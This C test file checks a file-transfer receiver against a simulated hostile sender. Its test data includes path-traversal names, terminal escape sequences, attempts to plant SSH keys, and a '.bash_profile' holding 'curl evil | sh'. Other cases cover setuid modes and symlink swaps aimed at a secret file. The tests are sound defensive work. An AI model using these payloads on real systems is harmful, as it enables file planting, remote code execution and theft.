/* The receiving side of `tcpunch receive` (peer/frecv.c) against a hostile sender: frecv runs
 * in a thread on one end of a socketpair, the test speaks the file protocol (peer/fproto.h) on
 * the other with names and checksums the real sender would never send. */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <signal.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include "check.h"
#include "common/log.h"
#include "peer/fproto.h"
#include "peer/frecv.h"
#include "peer/fsend.h"

struct rx {
    pthread_t th;
    struct peer_opts o;
    struct peer_link link;
    int dirfd;
    bool force;
    int rc;
};

static char tmpl[] = "/tmp/tcpunch-test-files.XXXXXX";
static bool dotfiles;         /* the receiver's --dotfiles, for the next start() */
static bool refuse_all;       /* the next start() runs frecv_refuse instead (receive --from) */
static unsigned max_files = 10000; /* the receiver's --max-files and --max-bytes */
static uint64_t max_bytes;
static const char *root; /* the test's scratch directory; DIR is root/in */

static void *rx_main(void *arg)
{
    struct rx *r = arg;
    r->rc = refuse_all ? frecv_refuse(&r->o, &r->link, "not one of ours")
                       : frecv_run(&r->o, &r->link, r->dirfd, r->force);
    return NULL;
}

/* Starts a receiver on a fresh socketpair; tx is our end, as a chan. */
static int start(struct rx *r, struct chan *tx, bool force)
{
    int sv[2];
    struct peer_link mine = {0};
    char dir[300];
    memset(r, 0, sizeof *r);
    if (!CHECK(socketpair(AF_UNIX, SOCK_STREAM, 0, sv) == 0))
        return -1;
    snprintf(dir, sizeof dir, "%s/in", root);
    r->dirfd = frecv_open_dir(dir);
    r->force = force;
    r->o.quiet = true;
    r->o.dotfiles = dotfiles;
    r->o.max_files = max_files;
    r->o.max_bytes = max_bytes;
    r->link.fd = sv[0];
    snprintf(r->link.peer, sizeof r->link.peer, "hostile");
    memset(r->link.tx_key, 1, sizeof r->link.tx_key);
    memset(r->link.rx_key, 2, sizeof r->link.rx_key);
    mine.fd = sv[1];
    memset(mine.tx_key, 2, sizeof mine.tx_key);
    memset(mine.rx_key, 1, sizeof mine.rx_key);
    if (!CHECK(r->dirfd >= 0) || !CHECK(chan_init(tx, &mine) == 0) ||
        !CHECK(pthread_create(&r->th, NULL, rx_main, r) == 0))
        return -1;
    return 0;
}

static int stop(struct rx *r, struct chan *tx)
{
    close(tx->fd);
    chan_free(tx);
    pthread_join(r->th, NULL);
    close(r->dirfd);
    return r->rc;
}

static json_t *reply(struct chan *tx)
{
    json_t *m = NULL;
    CHECK_MSG(fproto_recv(tx, &m) == 1, "no reply: %s", tx->err);
    return m;
}

/* Offers one file; returns the receiver's first answer's "refused" text, or NULL when it
 * accepted and (with data) stored it. sum_ok false: a wrong checksum. */
static char *offer_mode(struct chan *tx, const char *name, const char *data, bool sum_ok,
                        int mode)
{
    unsigned char sum[FPROTO_SUM_BYTES];
    char hex[FPROTO_SUM_HEX + 1];
    char *refused = NULL;
    json_t *m;
    size_t n = strlen(data);
    fproto_send(tx,
                json_pack("{s:s, s:I, s:i}", "name", name, "size", (json_int_t)n, "mode", mode));
    m = reply(tx);
    if (m && !json_is_true(json_object_get(m, "accept"))) {
        refused = strdup(json_string_value(json_object_get(m, "refused")));
        json_decref(m);
        return refused;
    }
    json_decref(m);
    chan_write(tx, data, n);
    crypto_generichash(sum, sizeof sum, (const unsigned char *)data, n, NULL, 0);
    sum[0] ^= sum_ok ? 0 : 1;
    sodium_bin2hex(hex, sizeof hex, sum, sizeof sum);
    fproto_send(tx, json_pack("{s:s}", "blake2b", hex));
    m = reply(tx);
    if (m && !json_is_true(json_object_get(m, "ok")))
        refused = strdup(json_string_value(json_object_get(m, "refused")));
    json_decref(m);
    return refused;
}

static char *offer(struct chan *tx, const char *name, const char *data, bool sum_ok)
{
    return offer_mode(tx, name, data, sum_ok, 0644);
}

static void begin(struct chan *tx)
{
    json_t *m;
    fproto_send(tx, json_pack("{s:i, s:i, s:i}", "files", 1, "count", 100, "bytes", 1000000));
    m = reply(tx);
    CHECK(m && json_integer_value(json_object_get(m, "files")) == 1);
    json_decref(m);
}

static void end(struct chan *tx)
{
    json_t *m;
    fproto_send(tx, json_pack("{s:b}", "end", 1));
    m = reply(tx);
    CHECK(m && json_is_true(json_object_get(m, "end")));
    json_decref(m);
    CHECK(chan_finish(tx) == 0);
    CHECK_INT(fproto_recv(tx, &m), 0);
}

static bool exists(const char *rel)
{
    char p[600];
    struct stat st;
    snprintf(p, sizeof p, "%s/%s", root, rel);
    return lstat(p, &st) == 0;
}

static void put(const char *rel, const char *text)
{
    char p[600];
    FILE *f;
    snprintf(p, sizeof p, "%s/%s", root, rel);
    f = fopen(p, "w");
    if (CHECK(f)) {
        fputs(text, f);
        fclose(f);
    }
}

static bool holds(const char *rel, const char *text)
{
    char p[600], buf[256] = "";
    FILE *f;
    size_t n;
    snprintf(p, sizeof p, "%s/%s", root, rel);
    if (!(f = fopen(p, "r")))
        return false;
    n = fread(buf, 1, sizeof buf - 1, f);
    buf[n] = '\0';
    fclose(f);
    return strcmp(buf, text) == 0;
}

/* No ".NAME.tcpunch-part-*" anywhere under in/. */
static bool no_parts(void)
{
    char cmd[400];
    snprintf(cmd, sizeof cmd, "test -z \"$(find '%s/in' -name '*.tcpunch-part-*')\"", root);
    return system(cmd) == 0;
}

static bool refused_with(char *why, const char *part)
{
    bool ok = why && strstr(why, part);
    if (!ok)
        fprintf(stderr, "  refusal: %s (want \"%s\")\n", why ? why : "(accepted)", part);
    free(why);
    return ok;
}

static void t_names(void)
{
    char why[200];
    /* the last ones would drive or fool the terminal that shows them: CSI as a C1 control
     * (U+009B), ESC, a raw 0x9b byte (not UTF-8), a right-to-left override, a line separator */
    static const char *const bad[] = {
        "",          "/etc/passwd", "../x", "a/../../x",        "a//b",         "a/",
        ".",         "a/./b",       "x\ny", "a/..",             "\xc2\x9b" "2Jx", "\x1b]0;t\x07",
        "\x9b" "2J", "a\xe2\x80\xae" "b", "a\xe2\x80\xa8" "b", "\xc0\xaf" "overlong"};
    static const char *const good[] = {"x", "a/b/c.txt", "..x", ".hidden", "a b", "ü"};
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++)
        CHECK_MSG(!fproto_check_name(bad[i], why, sizeof why), "accepted \"%s\"", bad[i]);
    for (size_t i = 0; i < sizeof good / sizeof good[0]; i++)
        CHECK_MSG(fproto_check_name(good[i], why, sizeof why), "refused \"%s\": %s", good[i], why);
    /* depth: 32 components pass, 33 do not (each directory costs the receiver an inode) */
    char deep[2 * FPROTO_DEPTH_MAX + 2] = "";
    for (int i = 0; i < FPROTO_DEPTH_MAX; i++)
        strcat(deep, i ? "/x" : "x");
    CHECK_MSG(fproto_check_name(deep, why, sizeof why), "refused 32 components: %s", why);
    strcat(deep, "/x");
    CHECK(!fproto_check_name(deep, why, sizeof why) && strstr(why, "32 components"));
    /* zero-width and letter marks are invisible too */
    CHECK(!fproto_check_name("a\xe2\x80\x8b" "b", why, sizeof why));
    CHECK(!fproto_check_name("\xef\xbb\xbf" "x", why, sizeof why));
    CHECK(!fproto_check_name("a\xd8\x9c" "b", why, sizeof why));
}

static mode_t mode_of(const char *rel)
{
    char p[600];
    struct stat st;
    snprintf(p, sizeof p, "%s/%s", root, rel);
    return lstat(p, &st) == 0 ? st.st_mode & 07777 : (mode_t)-1;
}

/* Hidden names (.ssh/authorized_keys, .bashrc, .config/tcpunch/config) only with --dotfiles;
 * refused like any other file (exit 10), with no directory created for them. */
static void t_dotfiles(void)
{
    struct rx r;
    struct chan tx;
    dotfiles = false;
    if (start(&r, &tx, false) < 0)
        return;
    begin(&tx);
    CHECK(refused_with(offer(&tx, ".ssh/authorized_keys", "ssh-ed25519 AAAA\n", true),
                       "--dotfiles"));
    CHECK(refused_with(offer(&tx, ".bash_profile", "curl evil | sh\n", true), "hidden"));
    CHECK(refused_with(offer(&tx, "dsub/.config/tcpunch/config", "server = evil\n", true),
                       "hidden"));
    CHECK(refused_with(offer(&tx, "..x", "x", true), "hidden"));
    CHECK(offer(&tx, "visible.txt", "seen\n", true) == NULL);
    end(&tx);
    CHECK_INT(stop(&r, &tx), EXIT_PARTIAL);
    CHECK(!exists("in/.ssh") && !exists("in/.bash_profile") && !exists("in/dsub"));
    CHECK(holds("in/visible.txt", "seen\n"));
    dotfiles = true;
    if (start(&r, &tx, false) < 0)
        return;
    begin(&tx);
    CHECK(offer(&tx, ".dot/.profile", "asked for\n", true) == NULL);
    end(&tx);
    CHECK_INT(stop(&r, &tx), EXIT_DONE);
    CHECK(holds("in/.dot/.profile", "asked for\n"));
    dotfiles = false;
    CHECK(no_parts());
}

/* The sender's mode never brings setuid, setgid, sticky or group/world write, and neither do
 * the directories made for it; the umask takes away more. */
static void t_modes(void)
{
    struct rx r;
    struct chan tx;
    mode_t old = umask(0);
    if (start(&r, &tx, false) < 0)
        goto out;
    begin(&tx);
    CHECK(offer_mode(&tx, "m0/suid", "x", true, 07777) == NULL);
    CHECK(offer_mode(&tx, "m0/plain", "x", true, 0666) == NULL);
    end(&tx);
    CHECK_INT(stop(&r, &tx), EXIT_DONE);
    CHECK_INT(mode_of("in/m0/suid"), 0755);
    CHECK_INT(mode_of("in/m0/plain"), 0644);
    CHECK_INT(mode_of("in/m0"), 0755);
    umask(077);
    if (start(&r, &tx, false) < 0)
        goto out;
    begin(&tx);
    CHECK(offer_mode(&tx, "m77/d2/f", "x", true, 0777) == NULL);
    end(&tx);
    CHECK_INT(stop(&r, &tx), EXIT_DONE);
    CHECK_INT(mode_of("in/m77/d2/f"), 0700);
    CHECK_INT(mode_of("in/m77"), 0700);
    CHECK_INT(mode_of("in/m77/d2"), 0700);
out:
    umask(old);
}

/* receive --from, a sender not named: its opening line gets {"refused": ...}, both streams
 * end properly, nothing is written. */
static void t_refuse_sender(void)
{
    struct rx r;
    struct chan tx;
    json_t *m;
    refuse_all = true;
    if (start(&r, &tx, false) < 0)
        goto out;
    fproto_send(&tx, json_pack("{s:i, s:i, s:i}", "files", 1, "count", 1, "bytes", 10));
    m = reply(&tx);
    CHECK(m && json_integer_value(json_object_get(m, "files")) == 0);
    CHECK(m && json_string_value(json_object_get(m, "refused")) &&
          strcmp(json_string_value(json_object_get(m, "refused")), "not one of ours") == 0);
    json_decref(m);
    CHECK(chan_finish(&tx) == 0);
    CHECK_INT(fproto_recv(&tx, &m), 0);
    CHECK_INT(stop(&r, &tx), EXIT_PARTIAL);
out:
    refuse_all = false;
}

static void t_refusals(void)
{
    struct rx r;
    struct chan tx;
    if (start(&r, &tx, false) < 0)
        return;
    begin(&tx);
    CHECK(offer(&tx, "sub/ok.txt", "fine\n", true) == NULL);
    CHECK(refused_with(offer(&tx, "../escape", "x", true), "inside the directory"));
    CHECK(refused_with(offer(&tx, "/tmp/abs", "x", true), "absolute"));
    CHECK(refused_with(offer(&tx, "link/x", "x", true), "symbolic link"));
    CHECK(refused_with(offer(&tx, "old.txt", "new", true), "already exists"));
    CHECK(refused_with(offer(&tx, "bad.txt", "tampered", false), "checksum"));
    end(&tx);
    CHECK_INT(stop(&r, &tx), EXIT_PARTIAL);
    CHECK(holds("in/sub/ok.txt", "fine\n"));
    CHECK(!exists("escape") && !exists("outside/x"));
    CHECK(holds("in/old.txt", "old"));
    CHECK(!exists("in/bad.txt"));
    CHECK(no_parts());
}

static void t_force(void)
{
    struct rx r;
    struct chan tx;
    if (start(&r, &tx, true) < 0)
        return;
    begin(&tx);
    CHECK(offer(&tx, "old.txt", "replaced", true) == NULL);
    CHECK(refused_with(offer(&tx, "link/x", "x", true), "symbolic link"));
    end(&tx);
    CHECK_INT(stop(&r, &tx), EXIT_PARTIAL);
    CHECK(holds("in/old.txt", "replaced"));
    CHECK(!exists("outside/x"));
}

/* The connection drops inside a file: no final name, no part file, exit "lost". */
static void t_cut(void)
{
    struct rx r;
    struct chan tx;
    json_t *m;
    if (start(&r, &tx, false) < 0)
        return;
    begin(&tx);
    fproto_send(&tx, json_pack("{s:s, s:i, s:i}", "name", "cut.bin", "size", 100000, "mode", 0644));
    m = reply(&tx);
    CHECK(m && json_is_true(json_object_get(m, "accept")));
    json_decref(m);
    chan_write(&tx, "only a little", 13);
    shutdown(tx.fd, SHUT_WR);
    CHECK_INT(stop(&r, &tx), EXIT_LOST);
    CHECK(!exists("in/cut.bin"));
    CHECK(no_parts());
}

/* Not the file protocol at all (a `connect` talking to a `receive`). */
static void t_not_files(void)
{
    struct rx r;
    struct chan tx;
    if (start(&r, &tx, false) < 0)
        return;
    chan_write(&tx, "hello bob\n", 10);
    chan_finish(&tx);
    CHECK_INT(stop(&r, &tx), EXIT_LOST);
}

/* Announces count files of bytes in all; returns the receiver's answer's "refused" text, or
 * NULL when it took the hello. */
static char *announce(struct chan *tx, int count, json_int_t bytes)
{
    json_t *m;
    char *why = NULL;
    fproto_send(tx, json_pack("{s:i, s:i, s:I}", "files", 1, "count", count, "bytes", bytes));
    m = reply(tx);
    if (m && json_integer_value(json_object_get(m, "files")) != 1)
        why = strdup(json_string_value(json_object_get(m, "refused")) ?: "(no reason)");
    json_decref(m);
    return why;
}

/* After a refusal that ends the transfer: the receiver's final record comes, then ours. */
static void ended_by_receiver(struct chan *tx)
{
    json_t *m = NULL;
    CHECK_INT(fproto_recv(tx, &m), 0);
    json_decref(m);
    CHECK(chan_finish(tx) == 0);
}

/* --max-files, --max-bytes and the free space judge the announced totals, before any file. */
static void t_limits(void)
{
    struct rx r;
    struct chan tx;
    max_files = 3;
    if (start(&r, &tx, false) == 0) {
        CHECK(refused_with(announce(&tx, 4, 10), "--max-files"));
        ended_by_receiver(&tx);
        CHECK_INT(stop(&r, &tx), EXIT_PARTIAL);
    }
    max_files = 10000;
    max_bytes = 1000;
    if (start(&r, &tx, false) == 0) {
        CHECK(refused_with(announce(&tx, 1, 1001), "--max-bytes"));
        ended_by_receiver(&tx);
        CHECK_INT(stop(&r, &tx), EXIT_PARTIAL);
    }
    max_bytes = 0;
    /* 2^62 bytes: no file system here has that much room */
    if (start(&r, &tx, false) == 0) {
        CHECK(refused_with(announce(&tx, 1, (json_int_t)1 << 62), "do not fit"));
        ended_by_receiver(&tx);
        CHECK_INT(stop(&r, &tx), EXIT_PARTIAL);
    }
    CHECK(!exists("in/limit.txt") && no_parts());
}

/* A sender that goes beyond what it announced: that file is refused and the transfer ends. */
static void t_beyond_announced(void)
{
    struct rx r;
    struct chan tx;
    if (start(&r, &tx, false) == 0) {
        CHECK(announce(&tx, 1, 100) == NULL);
        CHECK(offer(&tx, "first.txt", "one\n", true) == NULL);
        CHECK(refused_with(offer(&tx, "second.txt", "two\n", true), "more files than the 1"));
        ended_by_receiver(&tx);
        CHECK_INT(stop(&r, &tx), EXIT_PARTIAL);
    }
    CHECK(holds("in/first.txt", "one\n") && !exists("in/second.txt"));
    if (start(&r, &tx, false) == 0) {
        CHECK(announce(&tx, 2, 6) == NULL);
        CHECK(refused_with(offer(&tx, "big.txt", "seven b", true), "more bytes than the 6 B"));
        ended_by_receiver(&tx);
        CHECK_INT(stop(&r, &tx), EXIT_PARTIAL);
    }
    CHECK(!exists("in/big.txt") && no_parts());
}

/* A write error (here EFBIG from RLIMIT_FSIZE, as ENOSPC would be) removes the part file at
 * once, while the sender is still sending; the rest is dropped and the file refused. */
static void t_write_error(void)
{
    struct rx r;
    struct chan tx;
    struct rlimit old, lim;
    static char chunk[64 * 1024];
    json_t *m;
    bool gone_early;
    if (start(&r, &tx, false) < 0)
        return;
    CHECK(announce(&tx, 1, 4 * (json_int_t)sizeof chunk) == NULL);
    getrlimit(RLIMIT_FSIZE, &old);
    lim = old;
    lim.rlim_cur = 1000;
    signal(SIGXFSZ, SIG_IGN);
    setrlimit(RLIMIT_FSIZE, &lim);
    fproto_send(&tx, json_pack("{s:s, s:I, s:i}", "name", "full.bin", "size",
                               (json_int_t)(4 * sizeof chunk), "mode", 0644));
    m = reply(&tx);
    CHECK(m && json_is_true(json_object_get(m, "accept")));
    json_decref(m);
    memset(chunk, 'x', sizeof chunk);
    chan_write(&tx, chunk, sizeof chunk);
    /* the receiver has read (some of) the first chunk and failed to write it */
    for (int i = 0; i < 100 && !no_parts(); i++)
        usleep(20000);
    gone_early = no_parts();
    setrlimit(RLIMIT_FSIZE, &old);
    CHECK_MSG(gone_early, "%s", "the part file stayed after the write error");
    for (int i = 0; i < 3; i++)
        chan_write(&tx, chunk, sizeof chunk);
    fproto_send(&tx, json_pack("{s:s}", "blake2b", "00"));
    m = reply(&tx);
    CHECK(m && strstr(json_string_value(json_object_get(m, "refused")) ?: "", "writing"));
    json_decref(m);
    end(&tx);
    CHECK_INT(stop(&r, &tx), EXIT_PARTIAL);
    CHECK(!exists("in/full.bin") && no_parts());
}

/* The sender's open: a file swapped for a symbolic link (to a key, say) or for another file
 * between the collection and the open is not sent. */
static void t_send_swap(void)
{
    struct fsend_list l;
    struct stat st;
    char dir[600], file[700], secret[700], other[700], why[200], buf[16] = {0};
    char *argv[1] = {dir};
    int fd;
    snprintf(dir, sizeof dir, "%s/tosend", root);
    snprintf(file, sizeof file, "%s/a.txt", dir);
    snprintf(secret, sizeof secret, "%s/secret", root);
    snprintf(other, sizeof other, "%s/other", dir);
    mkdir(dir, 0700);
    put("tosend/a.txt", "public");
    put("secret", "PRIVATE KEY");
    if (!CHECK_INT(fsend_collect(&l, 1, argv), EXIT_DONE) || !CHECK(l.n == 1))
        return;
    fd = fsend_open(&l.v[0], &st, why, sizeof why);
    CHECK_MSG(fd >= 0, "the file as listed: %s", why);
    if (fd >= 0)
        close(fd);
    /* the swap: a.txt is now a link to the secret */
    CHECK(unlink(file) == 0 && symlink(secret, file) == 0);
    /* what the old code did (open, following the link): the secret */
    fd = open(file, O_RDONLY);
    CHECK(fd >= 0 && read(fd, buf, sizeof buf - 1) > 0 && strcmp(buf, "PRIVATE KEY") == 0);
    if (fd >= 0)
        close(fd);
    CHECK_INT(fsend_open(&l.v[0], &st, why, sizeof why), -1);
    CHECK_MSG(strstr(why, "symbolic link") != NULL, "why: %s", why);
    /* another regular file in its place, same size even */
    put("tosend/other", "PUBLIC");
    CHECK(unlink(file) == 0 && rename(other, file) == 0);
    CHECK_INT(fsend_open(&l.v[0], &st, why, sizeof why), -1);
    CHECK_MSG(strstr(why, "another file") != NULL, "why: %s", why);
    /* a FIFO in its place: refused without blocking */
    CHECK(unlink(file) == 0 && mkfifo(file, 0600) == 0);
    CHECK_INT(fsend_open(&l.v[0], &st, why, sizeof why), -1);
    CHECK_MSG(strstr(why, "regular") != NULL, "why: %s", why);
    fsend_free(&l);
}

static void setup(void)
{
    char p[600];
    root = mkdtemp(tmpl);
    if (!root) {
        perror("mkdtemp");
        exit(1);
    }
    snprintf(p, sizeof p, "%s/in", root);
    mkdir(p, 0700);
    snprintf(p, sizeof p, "%s/outside", root);
    mkdir(p, 0700);
    /* in/link -> ../outside: a receiver that follows it writes outside DIR */
    snprintf(p, sizeof p, "%s/in/link", root);
    if (symlink("../outside", p) < 0)
        perror("symlink");
    put("in/old.txt", "old");
}

static void teardown(void)
{
    char cmd[400];
    snprintf(cmd, sizeof cmd, "rm -rf '%s'", root);
    if (system(cmd) != 0)
        fprintf(stderr, "could not remove %s\n", root);
}

int main(int argc, char **argv)
{
    static const struct check_test tests[] = {TEST(t_names), TEST(t_refusals), TEST(t_force),
                                              TEST(t_cut), TEST(t_not_files),
                                              TEST(t_dotfiles), TEST(t_modes),
                                              TEST(t_refuse_sender), TEST(t_limits),
                                              TEST(t_beyond_announced), TEST(t_write_error),
                                              TEST(t_send_swap)};
    int rc;
    if (sodium_init() < 0)
        return 1;
    /* a test that fails leaves the receiver's own error lines for the log */
    log_init("test_files", LOG_ERROR, 0);
    setup();
    rc = check_run_(tests, sizeof tests / sizeof tests[0], argc, argv);
    teardown();
    return rc;
}
